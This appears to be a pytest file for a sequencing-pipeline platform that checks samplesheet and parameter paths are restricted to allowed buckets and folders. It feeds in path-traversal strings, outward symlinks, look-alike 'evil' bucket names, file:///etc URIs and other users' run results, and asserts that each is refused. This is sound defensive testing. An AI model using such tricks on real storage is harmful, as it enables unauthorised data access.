"""Inputs only from allowed places, and they exist: each attack over REST on the embedded stack, plus the matcher.

The platform allows ``gs://lab-fastq/`` (a real bucket on fake-gcs-server) and one local folder; the caller's own
runs' ``results/`` are allowed too. Everything else a samplesheet cell or a path param names is refused with the
row, column and reason, before the run is created.
"""

from __future__ import annotations

import asyncio
import os
from collections.abc import AsyncIterator, Collection, Iterator
from dataclasses import dataclass
from pathlib import Path

import httpx
import pydantic
import pytest

from arc_core.errors import FieldViolation, InvalidArgument, Unavailable
from arc_core.identity import Identity
from arc_core.object_listing import FolderListing, ObjectLister
from arc_core.settings import Settings, normalize_input_location
from services.runs import status as st
from services.runs.input_locations import InputChecker, InputLocationPolicy, InputPath, Placement
from tests.support.fake_gcs import FakeGcs, run_fake_gcs
from tests.support.platform import Running, running_platform
from tests.support.runs import insert_run

NEXTFLOW_STANDIN = str(Path(__file__).resolve().parents[1] / "fakes" / "nextflow")
ALICE_HTTP = {"X-Goog-Authenticated-User-Email": "accounts.google.com:alice@example.com"}
ADMIN_HTTP = {"X-Goog-Authenticated-User-Email": "accounts.google.com:admin@example.com"}
LAB = "lab-fastq"
GS_FILES = [f"run1/s{i}_R{r}.fastq.gz" for i in (1, 2, 3) for r in (1, 2)] + [
    f"run2/t{i}_R{r}.fastq.gz" for i in (1, 2) for r in (1, 2)
]
SCRNASEQ_PARAMS = {"protocol": "10XV3", "aligner": "star", "genome": "GRCh38"}


@dataclass
class Places:
    allowed: Path  # an allowed local folder
    outside: Path  # a folder next to it that is not allowed
    gcs: FakeGcs


@pytest.fixture(scope="module")
def gcs() -> Iterator[FakeGcs]:
    with run_fake_gcs(LAB) as fake:
        bucket = fake.client.bucket(LAB)
        for name in [*GS_FILES, "refs/genome.fa"]:
            bucket.blob(name).upload_from_string(b"@r\nACGT\n+\nIIII\n")
        evil = fake.client.create_bucket(f"{LAB}-evil")
        evil.blob("x_R1.fastq.gz").upload_from_string(b"reads")
        evil.blob("x_R2.fastq.gz").upload_from_string(b"reads")
        yield fake


@pytest.fixture(scope="module")
def places(gcs: FakeGcs, tmp_path_factory: pytest.TempPathFactory) -> Places:
    base = tmp_path_factory.mktemp("inputs")
    allowed, outside, evil = base / "allowed", base / "outside", base / "allowed-evil"
    for folder in (allowed / "reads", outside, evil):
        folder.mkdir(parents=True)
    for name in ("a_R1.fastq.gz", "a_R2.fastq.gz"):
        (allowed / "reads" / name).write_bytes(b"")
        (outside / name).write_bytes(b"")
        (evil / name).write_bytes(b"")
    (outside / "genome.fa").write_bytes(b">chr1\nACGT\n")
    (allowed / "reads" / "dir_R1.fastq.gz").mkdir()
    (allowed / "reads" / "link_R1.fastq.gz").symlink_to(outside / "a_R1.fastq.gz")
    (allowed / "reads" / "link_R2.fastq.gz").symlink_to(outside / "a_R2.fastq.gz")
    return Places(allowed, outside, gcs)


@pytest.fixture(scope="module")
async def platform(
    make_database, places: Places, gcs: FakeGcs, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[Running]:
    with pytest.MonkeyPatch.context() as env:
        env.setenv("NXF_FAKE_TASK_SECONDS", "0.05")
        async with running_platform(
            database_url=await make_database(),
            data_dir=tmp_path_factory.mktemp("arc"),
            nextflow_bin=NEXTFLOW_STANDIN,
            input_locations=f"gs://{LAB}/,{places.allowed}",
        ) as running:
            # The platform's own lister, on the fake bucket (a laptop's lister would look for Google credentials).
            running.service("runs").input_checker.lister = ObjectLister(client=gcs.client)
            yield running


class SpyLister:
    """The real lister, with every folder it was asked for recorded."""

    def __init__(self, inner: ObjectLister) -> None:
        self.inner = inner
        self.calls: list[str] = []

    async def list_folder(self, folder: str) -> FolderListing:
        self.calls.append(folder)
        return await self.inner.list_folder(folder)


@pytest.fixture
def checker(platform: Running) -> InputChecker:
    return platform.service("runs").input_checker


@pytest.fixture
def spy(checker: InputChecker) -> Iterator[SpyLister]:
    original = checker.lister
    checker.lister = SpyLister(original)
    yield checker.lister
    checker.lister = original


def sheet(*pairs: tuple[str, str]) -> str:
    rows = "".join(f"s{i},{r1},{r2}\n" for i, (r1, r2) in enumerate(pairs, start=1))
    return "sample,fastq_1,fastq_2\n" + rows


async def create(
    platform: Running, samplesheet: str, *, headers: dict[str, str] = ALICE_HTTP, **extra: object
) -> httpx.Response:
    body = {"pipeline": "demo/hello", "pipeline_version": "1.0.0", "params": {"greeting": "hi"}}
    body.update({"samplesheet_csv": samplesheet, **extra})
    return await platform.http.post("/api/runs", json=body, headers=headers)


def violations(response: httpx.Response) -> list[tuple[str, str]]:
    assert response.status_code == 400, response.text
    error = response.json()["error"]
    assert error["code"] == "INVALID_ARGUMENT"
    bad = next(d for d in error["details"] if d["@type"].endswith("google.rpc.BadRequest"))
    return [(v["field"], v["description"]) for v in bad["field_violations"]]


async def run_count(platform: Running) -> int:
    return int(await platform.service("runs").store.pool.fetchval("SELECT count(*) FROM runs"))


async def finished_run(platform: Running, owner: str) -> str:
    """A completed run of ``owner`` with files in its results/, work/, inputs/ and logs/."""
    service = platform.service("runs")
    storage = service.storage
    run_id = await insert_run(service.store, owner=owner, status=st.COMPLETED)
    for group in ("results/fastq", "work/ab/cdef", "inputs", "logs"):
        for read in ("R1", "R2"):
            await storage.write_bytes(f"runs/{run_id}/{group}/out_{read}.fastq.gz", b"reads")
    return run_id


def run_file(platform: Running, run_id: str, group: str, read: str) -> str:
    return platform.service("runs").storage.uri(f"runs/{run_id}/{group}/out_{read}.fastq.gz")


# -- REST: allowed ----------------------------------------------------------------------------------------


async def test_files_in_an_allowed_bucket_create_the_run(platform: Running, spy: SpyLister) -> None:
    response = await create(platform, sheet((f"gs://{LAB}/run1/s1_R1.fastq.gz", f"gs://{LAB}/run1/s1_R2.fastq.gz")))
    assert response.status_code == 201, response.text
    assert spy.calls == [f"gs://{LAB}/run1/"]


async def test_files_in_an_allowed_local_folder_create_the_run(platform: Running, places: Places) -> None:
    reads = places.allowed / "reads"
    response = await create(platform, sheet((f"{reads}/a_R1.fastq.gz", f"{reads}/a_R2.fastq.gz")))
    assert response.status_code == 201, response.text


async def test_own_completed_runs_results_are_allowed(platform: Running, spy: SpyLister) -> None:
    run_id = await finished_run(platform, "alice@example.com")
    pair = (run_file(platform, run_id, "results/fastq", "R1"), run_file(platform, run_id, "results/fastq", "R2"))
    response = await create(platform, sheet(pair))
    assert response.status_code == 201, response.text
    assert spy.calls == [platform.service("runs").storage.uri(f"runs/{run_id}/results/fastq") + "/"]


async def test_an_admin_may_use_any_runs_results(platform: Running, spy: SpyLister) -> None:
    run_id = await finished_run(platform, "bob@example.com")
    pair = (run_file(platform, run_id, "results/fastq", "R1"), run_file(platform, run_id, "results/fastq", "R2"))
    response = await create(platform, sheet(pair), headers=ADMIN_HTTP)
    assert response.status_code == 201, response.text


# -- REST: attacks ----------------------------------------------------------------------------------------


async def test_another_users_run_results_are_refused(platform: Running, spy: SpyLister) -> None:
    run_id = await finished_run(platform, "bob@example.com")
    before = await run_count(platform)
    r1, r2 = run_file(platform, run_id, "results/fastq", "R1"), run_file(platform, run_id, "results/fastq", "R2")
    found = violations(await create(platform, sheet((r1, r2))))
    assert found == [
        ("samplesheet[row 1].fastq_1", f"{r1} is not in the results/ of one of your runs"),
        ("samplesheet[row 1].fastq_2", f"{r2} is not in the results/ of one of your runs"),
    ]
    assert await run_count(platform) == before  # nothing created
    assert spy.calls == []  # refused before anything is listed


async def test_a_run_that_does_not_exist_reads_the_same_as_a_strangers(platform: Running) -> None:
    storage = platform.service("runs").storage
    ghost = storage.uri("runs/run-0000dead/results/x_R1.fastq.gz")
    found = violations(await create(platform, sheet((ghost, storage.uri("runs/run-0000dead/results/x_R2.fastq.gz")))))
    assert found[0] == ("samplesheet[row 1].fastq_1", f"{ghost} is not in the results/ of one of your runs")


@pytest.mark.parametrize("group", ["work/ab/cdef", "inputs", "logs"])
async def test_own_runs_work_inputs_and_logs_are_refused(platform: Running, group: str) -> None:
    run_id = await finished_run(platform, "alice@example.com")
    r1, r2 = run_file(platform, run_id, group, "R1"), run_file(platform, run_id, group, "R2")
    found = violations(await create(platform, sheet((r1, r2))))
    reason = "is in the platform's own storage; only the results/ of your own runs may be used"
    assert found == [("samplesheet[row 1].fastq_1", f"{r1} {reason}"), ("samplesheet[row 1].fastq_2", f"{r2} {reason}")]


async def test_the_rest_of_the_storage_root_is_refused(platform: Running, places: Places) -> None:
    storage = platform.service("runs").storage
    other = storage.uri("benchling/other_R1.fastq.gz")
    found = violations(await create(platform, sheet((other, f"{places.allowed}/reads/a_R2.fastq.gz"))))
    assert found == [("samplesheet[row 1].fastq_1", f"{other} is in the platform's own storage; only the results/"
                      " of your own runs may be used")]  # fmt: skip


@pytest.mark.parametrize(
    ("uri", "reason"),
    [
        ("http://example.com/reads/x_R1.fastq.gz", "http:// downloads are not allowed"),
        ("https://example.com/reads/x_R1.fastq.gz", "https:// downloads are not allowed"),
        ("HTTPS://example.com/reads/x_R1.fastq.gz", "https:// downloads are not allowed"),
        ("ftp://ftp.example.com/x_R1.fastq.gz", "ftp:// downloads are not allowed"),
        ("s3://bucket/x_R1.fastq.gz", "the scheme s3: is not allowed"),
        ("file:///etc/x_R1.fastq.gz", "the scheme file: is not allowed"),
    ],
)
async def test_other_schemes_are_refused(platform: Running, places: Places, uri: str, reason: str) -> None:
    found = violations(await create(platform, sheet((uri, f"{places.allowed}/reads/a_R2.fastq.gz"))))
    assert len(found) == 1
    field, description = found[0]
    assert field == "samplesheet[row 1].fastq_1"
    assert description.startswith(f"{uri} {reason}; copy the file to an allowed location (gs://{LAB}/, ")


async def test_a_local_path_outside_the_allowed_folders_is_refused(platform: Running, places: Places) -> None:
    outside = f"{places.outside}/a_R1.fastq.gz"
    found = violations(await create(platform, sheet((outside, f"{places.allowed}/reads/a_R2.fastq.gz"))))
    assert found == [
        (
            "samplesheet[row 1].fastq_1",
            f"{outside} is not in an allowed input location (gs://{LAB}/, {places.allowed}/,"
            " or the results/ of your own runs)",
        )
    ]


async def test_dot_dot_escapes_are_refused(platform: Running, places: Places) -> None:
    local = f"{places.allowed}/reads/../../outside/a_R1.fastq.gz"
    bucket = f"gs://{LAB}/run1/../../{LAB}-evil/x_R2.fastq.gz"
    found = violations(await create(platform, sheet((local, bucket))))
    assert found == [
        ("samplesheet[row 1].fastq_1", f"{local} is not in an allowed input location (gs://{LAB}/,"
         f" {places.allowed}/, or the results/ of your own runs)"),
        ("samplesheet[row 1].fastq_2", f"{bucket} climbs out of its bucket with '..'"),
    ]  # fmt: skip


async def test_dot_dot_that_stays_inside_is_normalised_and_allowed(platform: Running, places: Places) -> None:
    r1 = f"{places.allowed}/reads/../reads/a_R1.fastq.gz"
    response = await create(platform, sheet((r1, f"gs://{LAB}/run2/../run1/s1_R2.fastq.gz")))
    assert response.status_code == 201, response.text


async def test_a_symlink_pointing_outside_is_refused(platform: Running, places: Places) -> None:
    link = f"{places.allowed}/reads/link_R1.fastq.gz"
    found = violations(await create(platform, sheet((link, f"{places.allowed}/reads/a_R2.fastq.gz"))))
    assert [f for f, _ in found] == ["samplesheet[row 1].fastq_1"]
    assert found[0][1].startswith(f"{link} is not in an allowed input location")


async def test_prefix_tricks_are_refused(platform: Running, places: Places) -> None:
    bucket = f"gs://{LAB}-evil/x_R1.fastq.gz"
    sibling = f"{places.allowed}-evil/a_R2.fastq.gz"
    found = violations(await create(platform, sheet((bucket, sibling))))
    assert [(f, d.split(" is ")[0]) for f, d in found] == [
        ("samplesheet[row 1].fastq_1", bucket),
        ("samplesheet[row 1].fastq_2", sibling),
    ]
    assert all(" is not in an allowed input location " in d for _, d in found)


async def test_relative_paths_are_refused(platform: Running) -> None:
    found = violations(await create(platform, sheet(("data/a_R1.fastq.gz", "./a_R2.fastq.gz"))))
    assert [f for f, _ in found] == ["samplesheet[row 1].fastq_1", "samplesheet[row 1].fastq_2"]
    assert found[0][1].startswith("data/a_R1.fastq.gz is a relative path (Nextflow would resolve it against")


async def test_a_path_param_outside_is_refused_and_inside_must_exist(platform: Running, places: Places) -> None:
    pair = (f"gs://{LAB}/run1/s1_R1.fastq.gz", f"gs://{LAB}/run1/s1_R2.fastq.gz")
    body = {"pipeline": "nf-core/scrnaseq", "pipeline_version": "2.7.1"}
    outside = f"{places.outside}/genome.fa"
    found = violations(await create(platform, sheet(pair), params={**SCRNASEQ_PARAMS, "fasta": outside}, **body))
    assert found == [
        ("params.fasta", f"{outside} is not in an allowed input location (gs://{LAB}/, {places.allowed}/,"
         " or the results/ of your own runs)"),
    ]  # fmt: skip
    web = "https://example.com/genome.fa"
    found = violations(await create(platform, sheet(pair), params={**SCRNASEQ_PARAMS, "fasta": web}, **body))
    assert [f for f, _ in found] == ["params.fasta"] and "https:// downloads are not allowed" in found[0][1]
    missing = f"gs://{LAB}/refs/missing.fa"
    found = violations(await create(platform, sheet(pair), params={**SCRNASEQ_PARAMS, "fasta": missing}, **body))
    assert found == [("params.fasta", f"{missing} does not exist")]
    good = f"gs://{LAB}/refs/genome.fa"
    response = await create(platform, sheet(pair), params={**SCRNASEQ_PARAMS, "fasta": good}, **body)
    assert response.status_code == 201, response.text


# -- REST: existence --------------------------------------------------------------------------------------


async def test_missing_fastq_files_are_reported_per_row(platform: Running, places: Places, spy: SpyLister) -> None:
    before = await run_count(platform)
    folder = f"{places.allowed}/reads/dir_R1.fastq.gz"
    rows = [
        (f"gs://{LAB}/run1/s1_R1.fastq.gz", f"gs://{LAB}/run1/s1_R2.fastq.gz"),
        (f"gs://{LAB}/run1/s9_R1.fastq.gz", f"gs://{LAB}/run1/s2_R2.fastq.gz"),
        (f"gs://{LAB}/run1/s3_R1.fastq.gz", f"gs://{LAB}/nowhere/s3_R2.fastq.gz"),
        (folder, f"gs://{LAB}/run1/s1_R2.fastq.gz"),  # a folder where a file is expected
    ]
    found = violations(await create(platform, sheet(*rows)))
    assert found == [
        ("samplesheet[row 2].fastq_1", f"gs://{LAB}/run1/s9_R1.fastq.gz does not exist"),
        ("samplesheet[row 3].fastq_2", f"gs://{LAB}/nowhere/s3_R2.fastq.gz does not exist"),
        ("samplesheet[row 4].fastq_1", f"{folder} is a folder, not a file"),
    ]
    assert await run_count(platform) == before
    assert sorted(spy.calls) == sorted([f"gs://{LAB}/run1/", f"gs://{LAB}/nowhere/", f"{places.allowed}/reads/"])


async def test_a_missing_local_file(platform: Running, places: Places) -> None:
    missing = f"{places.allowed}/reads/gone_R1.fastq.gz"
    found = violations(await create(platform, sheet((missing, f"{places.allowed}/reads/a_R2.fastq.gz"))))
    assert found == [("samplesheet[row 1].fastq_1", f"{missing} does not exist")]


async def test_each_folder_is_listed_once(platform: Running, places: Places, spy: SpyLister) -> None:
    local = places.allowed / "reads"
    rows = [(f"gs://{LAB}/{GS_FILES[2 * i]}", f"gs://{LAB}/{GS_FILES[2 * i + 1]}") for i in range(5)]
    rows += [(f"{local}/a_R1.fastq.gz", f"{local}/a_R2.fastq.gz")] * 1
    rows += [(f"gs://{LAB}/run1/s{i}_R1.fastq.gz", f"gs://{LAB}/run1/s{i}_R2.fastq.gz") for i in (1, 2, 3)] * 10
    samplesheet = "sample,fastq_1,fastq_2\n" + "".join(f"x{i},{a},{b}\n" for i, (a, b) in enumerate(rows))
    response = await create(platform, samplesheet)
    assert response.status_code == 201, response.text
    assert sorted(spy.calls) == sorted([f"gs://{LAB}/run1/", f"gs://{LAB}/run2/", f"{local}/"])


async def test_too_many_folders_is_one_violation_and_no_listing(
    platform: Running, checker: InputChecker, spy: SpyLister, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(checker, "max_folders", 2)
    rows = [(f"gs://{LAB}/f{i}/a_R1.fastq.gz", f"gs://{LAB}/f{i}/a_R2.fastq.gz") for i in range(3)]
    found = violations(await create(platform, sheet(*rows)))
    assert found == [
        ("inputs", "the input files are spread over 3 folders; at most 2 can be checked: keep them in fewer folders")
    ]
    assert spy.calls == []


async def test_violations_are_capped_with_a_last_entry_saying_how_many_more(platform: Running) -> None:
    rows = [(f"http://example.com/{i}_R1.fastq.gz", f"http://example.com/{i}_R2.fastq.gz") for i in range(40)]
    found = violations(await create(platform, sheet(*rows)))
    assert len(found) <= 50
    assert found[-1][0] == "inputs"
    assert found[-1][1] == f"... and {80 - len(found) + 1} more problems not shown"
    assert found[0][0] == "samplesheet[row 1].fastq_1"


async def test_storage_down_while_listing_is_unavailable(
    platform: Running, checker: InputChecker, monkeypatch: pytest.MonkeyPatch
) -> None:
    class DownLister:
        async def list_folder(self, folder: str) -> FolderListing:
            raise Unavailable(f"Cloud Storage unavailable while listing {folder}: 503")

    monkeypatch.setattr(checker, "lister", DownLister())
    before = await run_count(platform)
    response = await create(platform, sheet((f"gs://{LAB}/run1/s1_R1.fastq.gz", f"gs://{LAB}/run1/s1_R2.fastq.gz")))
    assert response.status_code == 503, response.text
    assert response.json()["error"]["code"] == "UNAVAILABLE"
    assert await run_count(platform) == before


# -- the matcher ------------------------------------------------------------------------------------------


def test_policy_with_gcs_storage(tmp_path: Path) -> None:
    policy = InputLocationPolicy(("gs://lab-fastq/", "gs://refs/genomes/"), "gs://arc-bucket/prod")
    place = policy.place
    assert place("gs://lab-fastq/a/b_R1.fastq.gz") == Placement("gs://lab-fastq/a/b_R1.fastq.gz")
    assert place("gs://lab-fastq//a/./b.fq.gz") == Placement("gs://lab-fastq/a/b.fq.gz")
    assert place("gs://lab-fastq") == Placement("gs://lab-fastq")  # the location itself (a directory param)
    assert place("gs://refs/genomes/GRCh38/genome.fa").refusal == ""
    assert place("gs://refs/other/genome.fa").refusal.startswith("is not in an allowed input location")
    assert place("gs://refs/genomes-old/genome.fa").refusal.startswith("is not in an allowed input location")
    assert place("gs://lab-fastq-evil/x.fq.gz").refusal.startswith("is not in an allowed input location")
    assert place("gs://arc-bucket/prod/runs/run-0123abcd/results/x.fq.gz") == Placement(
        "gs://arc-bucket/prod/runs/run-0123abcd/results/x.fq.gz", results_of="run-0123abcd"
    )
    for other in ("runs/run-0123abcd/work/x", "runs/run-0123abcd/inputs/samplesheet.csv", "runs/x/results/y", "z"):
        assert "platform's own storage" in place(f"gs://arc-bucket/prod/{other}").refusal, other
    assert place("gs://arc-bucket/prod2/runs/run-0123abcd/results/x").refusal.startswith("is not in an allowed")
    assert place("gs://arc-bucket/prod/runs/run-0123abcd/results/../work/x").refusal.startswith("is in the platform")
    assert place(f"{tmp_path}/x.fq.gz").refusal.startswith("is a local path, which runs cannot read here")
    assert place("gs://Bad_Bucket/x").refusal == "is not a valid gs:// URI (gs://BUCKET/PATH)"
    assert place("gs://lab-fastq/../x").refusal == "climbs out of its bucket with '..'"
    assert (
        place("GS://lab-fastq/x").refusal
        == place("gs:/lab-fastq/x").refusal
        == "is not a valid gs:// URI (gs://BUCKET/PATH)"
    )
    assert place("gs://lab-fastq/a\nb").refusal == "contains control characters"
    assert place(" gs://lab-fastq/a").refusal == "starts or ends with whitespace"
    assert policy.describe_allowed() == "gs://lab-fastq/, gs://refs/genomes/, or the results/ of your own runs"


def test_policy_with_local_storage(tmp_path: Path) -> None:
    allowed, storage = tmp_path / "in", tmp_path / "storage"
    (allowed / "d").mkdir(parents=True)
    (tmp_path / "secret").write_bytes(b"")
    (allowed / "d" / "link").symlink_to(tmp_path / "secret")
    (allowed / "d" / "inner").symlink_to(allowed / "d")
    policy = InputLocationPolicy((normalize_input_location(str(allowed)),), str(storage))
    assert policy.place(f"{allowed}/d/x.fq.gz") == Placement(f"{allowed}/d/x.fq.gz")
    assert policy.place(f"{allowed}/d/inner/x.fq.gz") == Placement(f"{allowed}/d/x.fq.gz")  # an inside symlink
    assert policy.place(f"{allowed}/d/link").refusal.startswith("is not in an allowed input location")
    assert policy.place(f"{allowed}/../secret").refusal.startswith("is not in an allowed input location")
    assert policy.place(f"{allowed}x/y").refusal.startswith("is not in an allowed input location")
    assert policy.place(f"{storage}/runs/run-0123abcd/results/a").results_of == "run-0123abcd"
    assert "platform's own storage" in policy.place(f"{storage}/runs/run-0123abcd/logs/nextflow.log").refusal
    assert policy.place("reads/a.fq.gz").refusal.startswith("is a relative path")
    assert policy.place("~/a.fq.gz").refusal.startswith("is a relative path")
    assert policy.place("gs://lab-fastq/a").refusal.startswith("is not in an allowed input location")


# -- the setting ------------------------------------------------------------------------------------------


def test_input_locations_setting(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ARC_INPUT_LOCATIONS", f" gs://lab-fastq , gs://lab-references/hg38/,{tmp_path}/x/ ,,")
    settings = Settings(data_dir=tmp_path)
    assert settings.resolved_input_locations == ("gs://lab-fastq/", "gs://lab-references/hg38/", f"{tmp_path}/x/")
    monkeypatch.delenv("ARC_INPUT_LOCATIONS")
    # The embedded default: the demo warehouse's FASTQ folder and data_dir/inputs, resolved.
    embedded = Settings(data_dir=tmp_path / "d")
    assert embedded.resolved_input_locations == (f"{tmp_path}/d/demo-fastq/", f"{tmp_path}/d/inputs/")
    demo = Settings(data_dir=tmp_path, benchling_demo_fastq_dir=tmp_path / "demo")
    assert demo.resolved_input_locations[0] == f"{tmp_path}/demo/"
    assert Settings(data_dir=tmp_path, storage_root="gs://arc-bucket").resolved_input_locations == ()


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ("https://example.com/reads/", "only gs:// prefixes and local directories"),
        ("gs://", "must be gs://BUCKET/"),
        ("gs://lab-fastq/../other/", "must be gs://BUCKET/"),
        ("relative/dir", "must be an absolute path"),
    ],
)
def test_input_locations_setting_refuses(value: str, message: str) -> None:
    with pytest.raises(pydantic.ValidationError, match=message):
        Settings(input_locations=value)


def test_local_input_locations_are_refused_with_gcs_storage(tmp_path: Path) -> None:
    with pytest.raises(pydantic.ValidationError, match="local directories"):
        Settings(input_locations=f"gs://lab-fastq/,{tmp_path}", storage_root="gs://arc-bucket")
    assert os.path.isabs(Settings(input_locations=str(tmp_path)).resolved_input_locations[0])


@pytest.mark.parametrize(
    "location", ["gs://arc-bucket/", "gs://arc-bucket/runs/", "gs://arc-bucket/runs/run-0badc0de/"]
)
def test_input_locations_over_the_platforms_storage_are_refused(location: str) -> None:
    # Else a glob or a literal path into the storage root would pass as "in an allowed location".
    with pytest.raises(pydantic.ValidationError, match="overlaps the platform's storage"):
        Settings(input_locations=f"gs://lab-fastq/,{location}", storage_root="gs://arc-bucket/runs")
    Settings(input_locations="gs://arc-bucket-fastq/", storage_root="gs://arc-bucket")  # a prefix trick is no overlap


def test_local_input_locations_over_the_storage_root_are_refused(tmp_path: Path) -> None:
    with pytest.raises(pydantic.ValidationError, match="overlaps the platform's storage"):
        Settings(data_dir=tmp_path, input_locations=str(tmp_path))  # holds data_dir/storage


async def test_store_says_which_runs_the_caller_owns(platform: Running) -> None:
    store = platform.service("runs").store
    mine = await insert_run(store, owner="carol@example.com")
    theirs = await insert_run(store, owner="dave@example.com")
    ids = [mine, theirs, "run-00000000"]
    assert await store.runs_visible_to(ids, "carol@example.com") == {mine}
    assert await store.runs_visible_to(ids, None) == {mine, theirs}  # an admin: every run that exists
    assert await store.runs_visible_to([], "carol@example.com") == set()


class Owners:
    """Ownership as the store answers it, counting the queries."""

    def __init__(self, owners: dict[str, str]) -> None:
        self.owners = owners  # run id -> owner
        self.queries: list[tuple[list[str], str | None]] = []

    async def runs_visible_to(self, run_ids: Collection[str], user_email: str | None) -> set[str]:
        self.queries.append((sorted(run_ids), user_email))
        return {r for r in run_ids if r in self.owners and user_email in (None, self.owners[r])}


async def test_checker_kinds_and_one_ownership_query(tmp_path: Path) -> None:
    allowed, storage = tmp_path / "in", tmp_path / "storage"
    (allowed / "refs" / "index").mkdir(parents=True)
    (allowed / "refs" / "genome.fa").write_bytes(b"")
    for run_id in ("run-0000000a", "run-0000000b"):
        (storage / "runs" / run_id / "results").mkdir(parents=True)
        (storage / "runs" / run_id / "results" / "x.fq.gz").write_bytes(b"")
    owners = Owners({"run-0000000a": "carol@example.com", "run-0000000b": "dave@example.com"})
    spy = SpyLister(ObjectLister())
    checker = InputChecker(
        policy=InputLocationPolicy((f"{allowed}/",), str(storage)), lister=spy, runs=owners, concurrency=2
    )
    ok = [
        InputPath("params.index", f"{allowed}/refs/index", "directory"),
        InputPath("params.index2", f"{allowed}/refs/index/", "path"),
        InputPath("params.fasta", f"{allowed}/refs/genome.fa", "path"),
        InputPath("params.optional", f"{allowed}/refs/not-yet.fa", "file", must_exist=False),
        InputPath("samplesheet[row 1].fastq_1", f"{storage}/runs/run-0000000a/results/x.fq.gz"),
        InputPath("samplesheet[row 2].fastq_1", f"{storage}/runs/run-0000000a/results/x.fq.gz"),
    ]
    await checker.check(Identity("carol@example.com"), ok)
    assert owners.queries == [(["run-0000000a"], "carol@example.com")]
    assert sorted(spy.calls) == [f"{allowed}/refs/", f"{storage}/runs/run-0000000a/results/"]

    bad = [
        InputPath("params.index", f"{allowed}/refs/genome.fa", "directory"),
        InputPath("params.fasta", f"{allowed}/refs/index", "file"),
        InputPath("params.gone", f"{allowed}/refs/gone", "path"),
        InputPath("samplesheet[row 1].fastq_1", f"{storage}/runs/run-0000000b/results/x.fq.gz"),
    ]
    with pytest.raises(InvalidArgument) as err:
        await checker.check(Identity("carol@example.com"), bad)
    assert [(v.field, v.description) for v in err.value.violations] == [
        ("params.index", f"{allowed}/refs/genome.fa is a file, not a folder"),
        ("params.fasta", f"{allowed}/refs/index is a folder, not a file"),
        ("params.gone", f"{allowed}/refs/gone does not exist"),
        ("samplesheet[row 1].fastq_1", f"{storage}/runs/run-0000000b/results/x.fq.gz is not in the results/ of one"
         " of your runs"),
    ]  # fmt: skip
    await checker.check(Identity("root@example.com", is_admin=True), bad[3:])  # an admin: any run
    assert owners.queries[-1] == (["run-0000000b"], None)


async def test_long_uris_are_shortened_and_violations_stay_within_the_byte_budget(tmp_path: Path) -> None:
    checker = InputChecker(
        policy=InputLocationPolicy((), str(tmp_path)), lister=SpyLister(ObjectLister()), runs=Owners({})
    )
    long_uri = "https://example.com/" + "x" * 5000 + ".fq.gz"
    with pytest.raises(InvalidArgument) as err:
        await checker.check(Identity("a@example.com"), [InputPath(f"samplesheet[row {i}].fastq_1", long_uri) for i in
                                                        range(1, 31)])  # fmt: skip
    found = err.value.violations
    assert sum(len(v.field) + len(v.description) for v in found) < 6000
    assert "…" in found[0].description and len(found[0].description) < 400
    assert found[-1] == FieldViolation("inputs", f"... and {31 - len(found)} more problems not shown")


async def test_with_gcs_storage(make_database, gcs: FakeGcs, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Production's shape: storage is a bucket, the lister shares its client; local paths are refused outright."""
    gcs.client.create_bucket("arc-platform")
    monkeypatch.setenv("STORAGE_EMULATOR_HOST", gcs.endpoint)  # the platform's own clients find the fake
    monkeypatch.setenv("NXF_FAKE_TASK_SECONDS", "0.05")
    async with running_platform(
        database_url=await make_database(),
        data_dir=tmp_path / "arc",
        nextflow_bin=NEXTFLOW_STANDIN,
        storage_root="gs://arc-platform/prod",
        task_logs="local",  # no Cloud Logging here
        input_locations=f"gs://{LAB}/",
    ) as running:
        service = running.service("runs")
        assert service.input_checker.lister._client is service.storage.client
        mine, theirs = await finished_run(running, "alice@example.com"), await finished_run(running, "bob@example.com")
        own = (run_file(running, mine, "results/fastq", "R1"), run_file(running, mine, "results/fastq", "R2"))
        assert own[0].startswith("gs://arc-platform/prod/runs/")
        response = await create(running, sheet(own))
        assert response.status_code == 201, response.text

        bucket = (f"gs://{LAB}/run1/s1_R1.fastq.gz", f"gs://{LAB}/run1/s9_R2.fastq.gz")
        strange = run_file(running, theirs, "results/fastq", "R1")
        work = run_file(running, mine, "work/ab/cdef", "R2")
        local = f"{tmp_path}/a_R1.fastq.gz"
        found = violations(await create(running, sheet(bucket, (strange, work), (local, own[1]))))
        assert found == [
            ("samplesheet[row 1].fastq_2", f"gs://{LAB}/run1/s9_R2.fastq.gz does not exist"),
            ("samplesheet[row 2].fastq_1", f"{strange} is not in the results/ of one of your runs"),
            ("samplesheet[row 2].fastq_2", f"{work} is in the platform's own storage; only the results/ of your own"
             " runs may be used"),
            ("samplesheet[row 3].fastq_1", f"{local} is a local path, which runs cannot read here; use gs://"
             f" (gs://{LAB}/, or the results/ of your own runs)"),
        ]  # fmt: skip


async def test_listings_run_with_bounded_concurrency(tmp_path: Path) -> None:
    class Gauge:
        """Counts the listings in flight; each yields to the loop a few times, so others may start."""

        def __init__(self) -> None:
            self.active = self.most = 0
            self.inner = ObjectLister()

        async def list_folder(self, folder: str) -> FolderListing:
            self.active += 1
            self.most = max(self.most, self.active)
            for _ in range(5):
                await asyncio.sleep(0)
            try:
                return await self.inner.list_folder(folder)
            finally:
                self.active -= 1

    for i in range(10):
        (tmp_path / f"f{i}").mkdir()
        (tmp_path / f"f{i}" / "a.fq.gz").write_bytes(b"")
    gauge = Gauge()
    checker = InputChecker(
        policy=InputLocationPolicy((f"{tmp_path}/",), str(tmp_path / "storage")),
        lister=gauge,
        runs=Owners({}),
        concurrency=3,
    )
    await checker.check(Identity("a@example.com"), [InputPath(f"p{i}", f"{tmp_path}/f{i}/a.fq.gz") for i in range(10)])
    assert gauge.most == 3 and gauge.active == 0


async def test_a_path_param_set_in_the_users_config_is_checked_too(platform: Running, places: Places) -> None:
    pair = (f"gs://{LAB}/run1/s1_R1.fastq.gz", f"gs://{LAB}/run1/s1_R2.fastq.gz")
    config = "params {\n    fasta = 'https://example.com/genome.fa'\n}\n"
    response = await create(
        platform,
        sheet(pair),
        pipeline="nf-core/scrnaseq",
        pipeline_version="2.7.1",
        params=SCRNASEQ_PARAMS,
        config_content=config,
    )
    found = violations(response)
    assert [f for f, _ in found] == ["params.fasta"]
    assert found[0][1].startswith("https://example.com/genome.fa https:// downloads are not allowed")


